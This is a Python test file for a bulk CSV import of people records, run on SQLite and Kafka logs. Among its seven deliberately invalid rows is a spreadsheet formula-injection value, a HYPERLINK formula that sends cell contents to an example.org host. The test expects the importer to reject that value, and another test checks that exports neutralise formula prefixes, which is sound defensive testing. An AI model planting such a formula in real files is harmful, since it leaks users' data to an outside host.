"""Scenario 5, a bad bulk import, on both logs: 5,000 rows of which 7 are wrong, in every way in which rows are."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest

from desks.bulk import csv_form
from desks.bulk.books import WriterBooks
from desks.bulk.importing import Imports
from desks.bulk.kinds.people import COLUMNS, PEOPLE
from desks.bulk.setting import Setting
from desks.key_store import KeyStore
from desks.key_wrap import HeldWrapper
from desks.outcome import Outcome
from desks.topics import UPCASTS
from desks.vault import Vault
from desks.writer import Writer
from engine.kafka_log import KafkaLog
from engine.log import Log
from engine.sqlite_log import SqliteLog
from management.command import Received
from management.quota import SetQuota
from schemas.layout import Layout, Spread
from tests.desks.bulk.sheets import setting, told
from tests.desks.people import PARTITIONS, PEPPER, POLICIES, clock
from tests.management.accredited import AUTHORITY, RO, SPRING

PLACES = 4993
NAMES = ("O'Brien", "'t Hart", "李小龍", "نور الهدى", "שָׁלוֹם", "Müller, Ann", 'Ann "Nan" Lee', "Ōe")
WRONG = {  # row -> what is wrong with it, and where and how it is reported
    12: ({"birth_date": "31/02/1999"}, "birth_date", "DATE"),
    77: ({"birth_date": "1999-02-30"}, "birth_date", "DATE"),
    1000: ({"document_until": "31/02/2025"}, "document_until", "DATE"),
    2001: ({"document_number": "X0000002"}, "document_number", "DUPLICATE_DOCUMENT"),
    2002: ({"document_number": "x-000 0003"}, "document_number", "CODE"),
    3333: ({"family_name": '=HYPERLINK("http://example.org/?"&A1,"x")'}, "family_name", "FORMULA"),
    5001: ({}, "category", "QUOTA"),
}
WRONG[2002] = ({"document_number": "x-0000003"}, "document_number", "DUPLICATE_DOCUMENT")  # spelt otherwise


def file() -> bytes:
    """Return the file as Excel saves it: UTF-8 with a byte order mark, separated by semicolons."""
    header = [column.name for column in COLUMNS if column.name != "person"]
    lines = [";".join(header)]
    for number in range(2, 5002):
        row = {
            "ref": f"R{number}",
            "category": "Aa",
            "function": "ATHLETE",
            "discipline": "SWM",
            "family_name": NAMES[number % len(NAMES)],
            "given_name": "Ann",
            "nationality": "AAA",
            "birth_date": f"{1 + number % 28:02}/05/1999" if number % 2 else "1999-05-01",
            "document_country": "AAA",
            "document_type": "P",
            "document_number": f"X{number:07}",
            "document_until": "2025-01-01",
            "photo": "PASSED",
            "consents": "SELF",
            **WRONG.get(number, ({},))[0],
        }
        lines.append(";".join('"' + row.get(name, "").replace('"', '""') + '"' for name in header))
    return b"\xef\xbb\xbf" + "\r\n".join(lines).encode()


class Books(WriterBooks):
    """The writer of a log, and how many commands it took."""

    taken = 0

    async def submit(self, received: Received[Any]) -> Outcome:
        self.taken += 1
        return await super().submit(received)


@pytest.fixture(params=["sqlite", "kafka"])
async def log(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Log]:
    if request.param == "sqlite":
        found: Log = SqliteLog.open(tmp_path / "games.podium")
    else:
        layout = Layout(dict.fromkeys(UPCASTS, Spread(PARTITIONS.count)))
        found = KafkaLog.open(f"kafka://{request.getfixturevalue('kafka')}/{uuid4().hex}", layout=layout)
    yield found
    await found.close()


async def test_scenario_5_bad_bulk_import(log: Log, tmp_path: Path) -> None:
    writer = await Writer.open(log, POLICIES, clock, PEPPER, partitions=PARTITIONS)
    books, vault = Books(writer), Vault(KeyStore.open(tmp_path / "keys.db"), HeldWrapper(bytes(32)))
    quota = Received(str(UUID(int=7 << 76)), "ro:AAA", SetQuota("Aa", PLACES), AUTHORITY, SPRING)
    assert (await writer.submit(quota)).accepted
    data = file()
    said: Setting = setting(data, RO, SPRING, "AAA", policies=POLICIES, vault=vault)
    imports, errors = Imports(books), [(row, column, code) for row, (_, column, code) in sorted(WRONG.items())]

    rehearsed = await imports.run(data, PEOPLE, said, dry_run=True)
    assert told(rehearsed) == errors
    assert (rehearsed.rows, rehearsed.applied, rehearsed.known, rehearsed.refused) == (5000, PLACES, 0, 7)
    assert books.taken == 0

    done = await imports.run(data, PEOPLE, said, dry_run=False)
    assert told(done) == errors
    assert (done.applied, done.known, done.refused) == (PLACES, 0, 7)
    line = (await books.state("ro:AAA")).lines["Aa"]
    assert (line.total, line.free) == (PLACES, 0)

    taken = books.taken
    again = await imports.run(data, PEOPLE, said, dry_run=False)
    assert (again.applied, again.known, again.refused) == (0, PLACES, 7)
    assert books.taken - taken == 2  # that there is an import for them, and that it is over
    digests = [writer.digest(number) for number in range(PARTITIONS.count)]
    await writer.close()

    replayed = await Writer.open(log, POLICIES, clock, PEPPER, partitions=PARTITIONS)
    assert [replayed.digest(number) for number in range(PARTITIONS.count)] == digests
    await replayed.close()


def test_scenario_5_an_export_is_safe_to_open() -> None:
    rows = [[first + "1+1"] for first in "=+-@\t\r"]
    exported = csv_form.encode(["family_name"], rows).decode("utf-8-sig")
    assert exported.split("\r\n", 1)[1] == "".join(f'"\'{first}1+1"\r\n' for first in "=+-@\t\r")
